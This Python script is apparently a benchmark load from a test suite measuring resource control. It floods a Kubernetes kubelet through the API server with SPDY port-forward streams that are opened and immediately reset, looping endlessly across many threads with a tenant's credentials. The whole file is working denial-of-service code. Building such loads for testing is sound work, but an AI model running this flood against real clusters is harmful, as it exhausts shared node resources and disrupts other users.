"""Floods the kubelet API with SPDY streams through the API server, as a tenant who may forward ports can.

python -m tests.bench.loads.spdy_streams, with {"kubeconfig": PATH, "namespace": NAME, "pod": NAME,
"connections": N} as stdin: each opens pairs of streams, and resets them once they may have been accepted,
until the process is ended.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import sys
import tempfile
import threading
import time
from base64 import b64decode
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import yaml

from tests.resourced.kubelet.spdy.harness import RST, Peer, pair

CANCEL = 5
PAIRS = 20
"""In one write."""
READ = 1 << 16


def flood(asked: dict[str, Any], tls: ssl.SSLContext, server: str) -> None:
    at = urlsplit(server)
    path = f"/api/v1/namespaces/{asked['namespace']}/pods/{asked['pod']}/portforward"
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {at.hostname}\r\nContent-Length: 0\r\nConnection: Upgrade\r\n"
        "Upgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: portforward.k8s.io\r\n\r\n"
    )
    with (
        socket.create_connection((at.hostname, at.port or 443)) as plain,
        tls.wrap_socket(plain, server_hostname=at.hostname) as connection,
    ):
        connection.sendall(head.encode())
        answer = connection.recv(READ)
        if b" 101 " not in answer.partition(b"\r\n")[0]:
            raise ConnectionError(answer[:300].decode(errors="replace"))
        threading.Thread(target=drain, args=(connection,), daemon=True).start()
        peer, resets = Peer(), b""
        while True:
            pairs = [opened(peer, number) for number in range(PAIRS)]
            connection.sendall(b"".join(frames for frames, _ in pairs) + resets)
            resets = b"".join(resets_of_pair for _, resets_of_pair in pairs)


def opened(peer: Peer, number: int) -> tuple[bytes, bytes]:
    """A pair of streams: what opens it, and what resets it."""
    frames = resets = b""
    for kind in ("error", "data"):
        stream, frame = peer.open({"streamtype": kind, "port": "1", "requestid": str(number)})
        frames += frame
        resets += pair(RST, stream, CANCEL)
    return frames, resets


def drain(connection: ssl.SSLSocket) -> None:
    try:
        while connection.recv(READ):
            pass
    except OSError:
        return


def again_and_again(asked: dict[str, Any], tls: ssl.SSLContext, server: str) -> None:
    while True:
        try:
            flood(asked, tls, server)
        except OSError as error:
            print(error, file=sys.stderr)
            time.sleep(0.2)


def main() -> None:
    """It yields the processor to bob: resourced is measured, not the machine."""
    asked = json.load(sys.stdin)
    os.nice(19)
    config = yaml.safe_load(Path(asked["kubeconfig"]).read_text())
    cluster, user = config["clusters"][0]["cluster"], config["users"][0]["user"]
    tls = ssl.create_default_context(cadata=b64decode(cluster["certificate-authority-data"]).decode())
    with tempfile.NamedTemporaryFile() as pem:
        pem.write(b64decode(user["client-certificate-data"]) + b64decode(user["client-key-data"]))
        pem.flush()
        tls.load_cert_chain(pem.name)
    for _ in range(asked["connections"]):
        threading.Thread(target=again_and_again, args=(asked, tls, cluster["server"]), daemon=True).start()
    threading.Event().wait()


if __name__ == "__main__":
    main()
